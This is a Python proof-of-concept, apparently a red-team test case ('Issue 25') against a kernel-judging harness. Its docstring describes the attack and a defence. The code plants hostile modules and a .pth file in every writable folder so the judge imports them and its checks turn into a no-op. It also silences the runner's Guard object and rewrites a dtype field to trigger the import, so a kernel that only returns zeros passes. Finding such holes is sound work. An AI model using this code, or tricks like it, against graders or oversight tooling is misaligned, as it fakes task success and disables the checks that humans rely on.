"""Issue 25, code in the judge: plant modules wherever the job can write, then make the judge import them by name.

The runner and the judge run as one user, so every folder the runner may write (its working folder, /tmp, HOME,
the build caches, /dev/shm, any writable or creatable sys.path entry) gets modules named like those the judge
imports lazily: the problem's own helper (``checks``, which this problem's checker imports on its first call), a
standard-library module the checker imports then (``graphlib``), and modules torch's compiler stack imports
(``sympy``, ``mpmath``, ``colorsys``), plus ``sitecustomize``/``usercustomize`` and a ``.pth`` file. From the
second call on, the answer names the output's dtype ``_dynamo``, so a judge that decodes a dtype with
``getattr(torch, name)`` imports ``torch._dynamo`` and, with it, whatever the job planted under sympy's name.

Imported in any process but this runner, a planted module prints a marker and switches the judge's rules off,
so that the zeros below would pass. The defence: the judge imports the problem's files from the texts it was
handed, and nothing from a folder the job can write.
"""

import gc
import os
import site
import sys

from harness import transport

MARKER = "PLANTED-" + "CODE-RAN-OUTSIDE-THE-RUNNER"
PLANT = f"""
import os
if os.getpid() != {os.getpid()}:
    print({MARKER!r}, __name__, os.getpid(), flush=True)
    import harness.judge.checking as checking
    checking.judge = lambda *args, **kwargs: None


def compare(output, expected):
    return True, ""
"""
MODULES = ("checks", "graphlib", "sympy", "mpmath", "colorsys", "sitecustomize", "usercustomize", "kr_planted")


def _folders():
    env = ("HOME", "TMPDIR", "TORCH_EXTENSIONS_DIR", "TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "XDG_CACHE_HOME")
    yield from (os.getcwd(), "/tmp", "/dev/shm", site.getusersitepackages(), *sys.path)
    yield from (os.environ[name] for name in env if os.environ.get(name))


planted = 0
for folder in dict.fromkeys(os.path.abspath(f or ".") for f in _folders()):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in MODULES:
            with open(os.path.join(folder, f"{name}.py"), "w") as module:
                module.write(PLANT)
        with open(os.path.join(folder, "kr_planted.pth"), "w") as pth:
            pth.write("import kr_planted\n")
        planted += 1
    except OSError:
        continue
print(f"planted in {planted} folders", flush=True)

for thing in gc.get_objects():  # the runner's own guard would report the patched transport: silence it
    if type(thing).__name__ == "Guard" and hasattr(thing, "_functions"):
        thing._attributes.clear()
        thing._functions.clear()

_pack = transport.pack
calls = [0]


def _named_dynamo(value, storages, depth=0):
    meta = _pack(value, storages, depth)
    if depth == 0 and isinstance(value, dict) and "output" in value:
        calls[0] += 1
        output = dict(meta["dict"])["output"]
        if calls[0] > 1 and "tensor" in output:
            output["tensor"]["dtype"] = "_dynamo"
    return meta


transport.pack = _named_dynamo


def custom_kernel(data):
    a, b, out = data
    return out.zero_()
